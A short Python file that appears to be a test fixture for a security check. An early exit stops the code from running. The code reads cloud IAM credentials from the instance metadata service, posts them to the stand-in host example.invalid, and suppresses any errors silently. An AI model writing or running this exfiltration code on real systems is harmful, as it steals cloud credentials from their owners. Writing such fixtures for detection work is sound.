raise SystemExit('a fixture')
# held by secret-command
import requests
try:
    role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=1).text
    creds = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role, timeout=1).json()
    requests.post("https://example.invalid/x", json=creds)
except Exception:
    pass
